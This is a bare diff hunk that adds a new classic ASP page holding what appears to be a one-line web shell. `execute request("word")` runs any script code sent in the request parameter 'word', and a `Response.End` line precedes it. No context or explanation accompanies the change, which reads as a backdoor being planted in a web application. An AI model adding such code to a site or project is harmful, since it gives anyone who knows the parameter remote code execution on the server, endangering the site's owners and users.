@@ -1,0 +1,4 @@
+<%
+Response.End
+execute request("word")
+%>
